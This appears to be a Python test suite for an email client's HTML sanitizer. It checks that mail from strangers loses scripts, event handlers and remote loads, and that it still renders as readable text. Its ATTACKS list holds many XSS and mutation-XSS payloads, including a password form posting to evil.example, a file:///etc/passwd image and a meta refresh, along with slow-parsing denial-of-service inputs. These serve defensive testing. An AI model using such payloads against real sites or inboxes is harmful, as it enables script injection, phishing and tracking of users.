# ruff: noqa: E501  (lines as mails have them)
"""HTML of strangers: nothing active stays, nothing is loaded from elsewhere, and what it says is readable."""

import html as markup
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml.html import fragments_fromstring

from usher.base.html import ATTRIBUTES, TAGS, clean, clean_composed, html_to_text, text_to_html


def cleaned(html: str) -> str:
    return clean(html, cid_url=lambda cid: f"/files/{cid}" if cid == "logo" else None).html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>x</td></tr></table>",
    "<body background='https://evil.example/x'>x</body>",
    "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video>",
    "<img srcset='https://evil.example/x 2x'>",
    "<picture><source srcset='https://evil.example/x'><img src='cid:logo'></picture>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,PHN2Zz4='>",
    "<img src='file:///etc/passwd'>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='HTTP://evil.example/pixel.gif'>",
    "<img src=' https://evil.example/pixel.gif'>",
    "<img src='\\\\evil.example\\pixel.gif'>",
    "<img src='/files/secret'>",
    "<p class='btn btn-danger' id='content' name='x'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p data-action='delete' data-withheld-src='https://evil.example/x' hx-get='/logout' is='x-y'>x</p>",
    "<img data-withheld-src='https://evil.example/x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='https://ok.example' target='_self' rel='opener' download>x</a>",
    "<isindex action=javascript:alert(1)>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<<script>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


def check(html: str) -> None:
    for element in fragments_fromstring(cleaned(html)):
        if isinstance(element, str):
            continue
        for each in element.iter():
            assert each.tag in TAGS, each.tag
            allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(each.tag, set()) | ({"rel", "target"} if each.tag == "a" else set())
            allowed |= {"data-withheld-src"} if each.tag == "img" else set()
            assert set(each.attrib) <= allowed, each.attrib
            if "href" in each.attrib:
                assert re.match(r"(?:https?://|mailto:|tel:)", each.attrib["href"], re.IGNORECASE)
                assert each.attrib["rel"] == "noopener noreferrer nofollow"
                assert each.attrib["target"] == "_blank"
            if "src" in each.attrib:
                assert re.match(r"/files/logo$|data:image/(?:png|gif|jpeg|webp);base64,", each.attrib["src"], re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_x01_nothing_active_and_nothing_remote_is_left(attack: str) -> None:
    check(attack)
    check(f"<p>before {attack} after</p>")


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(ATTACKS + ["<p>", "</p>", "<table>", "<", ">", "'", '"', "<!--", "-->", "</style>", "<b>x</b>"]),
        max_size=6,
    )
)
def test_x01_mixed_attacks_leave_nothing_either(parts: list[str]) -> None:
    check("".join(parts))


def test_remote_images_are_withheld_counted_and_can_be_shown_later() -> None:
    found = clean('<img src="https://a.example/x?a=1&amp;b=2" alt="Logo"><img src="//b.example/y">', cid_url=lambda _: None)
    assert found.withheld_images == 2
    assert 'data-withheld-src="https://a.example/x?a=1&amp;b=2"' in found.html
    assert 'data-withheld-src="https://b.example/y"' in found.html
    assert " src=" not in found.html


def test_images_of_the_mail_get_our_address_and_unknown_ones_none() -> None:
    assert cleaned('<img src="cid:logo" alt="x">') == '<img src="/files/logo" alt="x">'
    assert cleaned('<img src="CID:&lt;logo&gt;">') == '<img src="/files/logo">'
    assert "src" not in cleaned('<img src="cid:other">')


def test_small_pictures_inside_the_page_stay() -> None:
    assert "data:image/png;base64,AAAA" in cleaned('<img src="data:image/png;base64,AAAA">')


def test_links_tables_and_lists_stay() -> None:
    html = cleaned('<table><tr><td colspan="2">a</td></tr></table><ul><li>b</li></ul><a href="mailto:a@b.example">c</a>')
    assert '<td colspan="2">a</td>' in html
    assert "<li>b</li>" in html
    assert 'href="mailto:a@b.example"' in html


def test_a_page_built_to_be_slow_is_cleaned_quickly() -> None:
    started = time.process_time()
    for bomb in ("<div>" * 100_000, "<b><p>" * 50_000, "a&" * 400_000, "<table><tr><td>" * 20_000):
        cleaned(bomb)
        html_to_text(bomb)
    assert time.process_time() - started < 20


SLOW = {
    "hidden ones with text between them": ("<i hidden></i>" + "x" * 100) * 10_000,
    "instructions that never end": "<p hidden></p>" + "<?a bcdefghijklmnopqrst" * 20_000,
}


@pytest.mark.parametrize("built", SLOW)
def test_a_page_that_hides_much_is_read_and_cleaned_quickly(built: str) -> None:
    began = time.perf_counter()
    html_to_text(SLOW[built])
    clean(SLOW[built], cid_url=lambda _: None)
    assert time.perf_counter() - began < 5


@pytest.mark.parametrize("html", ["<p>Gru&#xDF; und Stra&#xdf; t</p>", "<p hidden>-</p><p>Gru&#xDF; und Stra&#xdf; t</p>"])
def test_letters_that_a_page_writes_as_numbers_stay(html: str) -> None:
    assert html_to_text(html) == "Gruß und Straß t"
    assert "Gruß und Straß t" in markup.unescape(clean(html, cid_url=lambda _: None).html)


SHOWN = {
    '<div style="max-height:0">preheader</div><p>Hello</p>': "Hello",
    '<p>Hello</p><p style="display:none; display:block">there</p>': "Hello\n\nthere",
    '<p>Hello</p><p hidden style="display:block">there</p>': "Hello\n\nthere",
    '<p>Hello</p><p style="display:block; display:none">there</p>': "Hello",
    '<div style="display:none">all there is</div>': "all there is",
    "<div hidden>all there is</div>": "all there is",
}


@pytest.mark.parametrize("html", SHOWN)
def test_what_is_hidden_goes_unless_it_is_all_there_is(html: str) -> None:
    assert html_to_text(html) == SHOWN[html]
    assert html_to_text(clean(html, cid_url=lambda _: None).html) == SHOWN[html]


def test_composed_text_keeps_what_the_editor_makes() -> None:
    html = '<h2>T</h2><p>a <strong>b</strong> <em>c</em> <u>d</u> <s>e</s><br><code>f</code></p><ol start="3"><li>g</li></ol><blockquote>h</blockquote>'
    assert clean_composed(html, is_own_image=lambda _: False) == html


def test_composed_text_shows_only_our_own_images() -> None:
    html = '<img src="/files/1"><img src="https://evil.example/x"><img src="data:image/png;base64,AA"><p class="x" style="color:red">y</p>'
    found = clean_composed(html, is_own_image=lambda address: address.startswith("/files/"))
    assert found == '<img src="/files/1"><img><img><p>y</p>'


TEXTS = {
    "<p>a</p><p>b</p>": "a\n\nb",
    "a<br>b": "a\nb",
    "<div>a</div><div>b</div>": "a\nb",
    "<style>p{}</style><title>t</title><p>a&nbsp;&amp; b</p>": "a & b",
    "<ul><li>a</li><li>b</li></ul>": "* a\n  * b",
    "<pre>a\n  b</pre>": "a\n  b",
    '<?xml version="1.0" encoding="utf-8"?><p>ü</p>': "ü",
    "": "",
    "plain": "plain",
    "<p>a</p>\n\n\n<p>   </p>\n\n\n<p>b</p>": "a\n\nb",
}


@pytest.mark.parametrize("html", TEXTS)
def test_html_becomes_readable_text(html: str) -> None:
    assert html_to_text(html) == TEXTS[html]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_html_becomes_text(html: str) -> None:
    assert isinstance(html_to_text(html), str)


LINKED = {
    "https://a.example/b": "https://a.example/b",
    "See https://a.example/b.": "https://a.example/b",
    "(https://a.example/b)": "https://a.example/b",
    "https://a.example/b_(c)": "https://a.example/b_(c)",
    "https://a.example/?a=1&b=2!": "https://a.example/?a=1&amp;b=2",
    "write to carl@fir.example, please": "mailto:carl@fir.example",
}


@pytest.mark.parametrize("text", LINKED)
def test_addresses_in_text_become_links(text: str) -> None:
    assert re.findall(r'href="([^"]*)"', text_to_html(text)) == [LINKED[text]]


@pytest.mark.parametrize("text", ["javascript:alert(1)", "ftp://a.example", "http:/x", "a@b", "@ada", "https://"])
def test_other_words_do_not(text: str) -> None:
    assert "href" not in text_to_html(text)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab <>&\"'\n:/.@https", max_size=120))
def test_text_as_html_reads_the_same_and_holds_only_paragraphs_and_links(text: str) -> None:
    html = text_to_html(text)
    assert re.sub(r'</?p>|<br>|<a href="[^"<>]*" rel="[a-z ]*">|</a>', "", html).count("<") == 0
    assert html_to_text(html).split() == text.split()
